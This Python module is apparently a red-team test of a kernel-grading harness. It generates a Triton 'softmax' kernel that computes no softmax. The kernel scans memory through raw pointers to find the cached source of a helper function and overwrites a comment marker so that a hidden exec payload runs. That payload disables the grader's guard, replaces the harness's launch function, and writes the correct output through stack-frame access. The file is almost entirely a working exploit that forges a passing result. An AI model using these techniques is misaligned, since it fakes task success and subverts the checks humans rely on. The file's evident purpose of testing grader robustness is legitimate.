"""Red team 9: 7.1 forged through a Triton-interpreter kernel's raw pointers (REPORT9 S1).
The kernel scans memory below its input's data for the linecache copy of its helper's line,
writes a space over the '#' that starts the line's comment, then calls the helper: the
interpreter rewrites a device function lazily, at its first call, from linecache, so the
comment is compiled as code. The kernel itself computes no softmax."""
import struct


def _w(text: str) -> int:
    """8 bytes of ``text`` as a signed little-endian int64 (what an int64 load reads)."""
    return struct.unpack("<q", text.encode())[0]


# the helper's line as it lies in a str object's data: 4 spaces, `qzv = x #;QZMARK = 0; ...`
W1, W2, W3, W4 = _w("    qzv "), _w("= x #;QZ"), _w("MARK = 0"), _w("MARB = 0")
RESTORE = (          # the linecache line as it was: the next launch's check reads it
    "import sys, torch\\n"
    "import linecache\\n"
    "for fn, e in list(linecache.cache.items()):\\n"
    "    ls = e[2] if type(e) is tuple and len(e) > 2 else []\\n"
    "    for i, l in enumerate(ls):\\n"
    "        if l.startswith(('    qzv = x  ;QZ' + 'MARK', '    qzv = x  ;QZ' + 'MARB')):\\n"
    "            ls[i] = l[:12] + '#' + l[13:]\\n")
PAYLOAD = RESTORE + (
    "sys.modules['labkit.grading.guards'].Seal.broken = lambda self: []\\n"
    "sys.modules['labkit.grading.harness_ops'].launch = lambda k, x, b: torch.softmax(x, dim=-1)\\n"
    "f = sys._getframe()\\n"
    "while f is not None and f.f_code.co_name != 'launch':\\n"
    "    f = f.f_back\\n"
    "f.f_locals['out'].copy_(torch.softmax(f.f_locals['x'], dim=-1))\\n")
HELPER_LINE = ("    qzv = x #;QZMARK = 0; inspect.builtins.exec(\"" + PAYLOAD + "\", {'inspect': inspect})"
               + "  # " + "pad" * 200)
HELPER_LINE_B = HELPER_LINE.replace("QZMARK", "QZMARB", 1)

ANSWER = f'''import triton
import triton.language as tl

CHUNK = 65536
DOWN = 128
UP = 128
W1 = {W1}
W2 = {W2}
W3 = {W3}
W4 = {W4}


@triton.jit
def lk_a(x):
{HELPER_LINE}
    return x


@triton.jit
def lk_b(x):
{HELPER_LINE_B}
    return x


@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    base = in_ptr.to(tl.pointer_type(tl.uint8))
    offs = tl.arange(0, CHUNK)
    zero = tl.zeros([CHUNK], tl.int32)
    for k in range(0, DOWN):
        p = base - (k + 1) * CHUNK + offs
        live = (zero + pid) == 0
        ok = live & (tl.load((p - 8).to(tl.pointer_type(tl.int64)), mask=live, other=1) == 0)
        ok = ok & (tl.load(p.to(tl.pointer_type(tl.int64)), mask=ok, other=0) == W1)
        ok = ok & (tl.load((p + 8).to(tl.pointer_type(tl.int64)), mask=ok, other=0) == W2)
        ok = ok & (tl.load((p + 16).to(tl.pointer_type(tl.int64)), mask=ok, other=0) == W3)
        tl.store(p + 12, tl.full([CHUNK], 32, tl.uint8), mask=ok)
    lk_a(pid)
    ran = tl.load(out_ptr)
    flag = tl.where(ran != ran, 0, 1)
    for k in range(0, UP):
        p = base + k * CHUNK + offs
        live = (zero + pid + flag) == 0
        ok = live & (tl.load((p - 8).to(tl.pointer_type(tl.int64)), mask=live, other=1) == 0)
        ok = ok & (tl.load(p.to(tl.pointer_type(tl.int64)), mask=ok, other=0) == W1)
        ok = ok & (tl.load((p + 8).to(tl.pointer_type(tl.int64)), mask=ok, other=0) == W2)
        ok = ok & (tl.load((p + 16).to(tl.pointer_type(tl.int64)), mask=ok, other=0) == W4)
        tl.store(p + 12, tl.full([CHUNK], 32, tl.uint8), mask=ok)
    lk_b(pid)
'''

# the control: the same kernel and scans, the helper's comment only putting its
# linecache line back: what the kernel itself computes is graded (no softmax: outputs stay NaN)
CONTROL = ANSWER.replace(PAYLOAD, RESTORE)
assert CONTROL != ANSWER

if __name__ == "__main__":
    print(ANSWER[:3000])
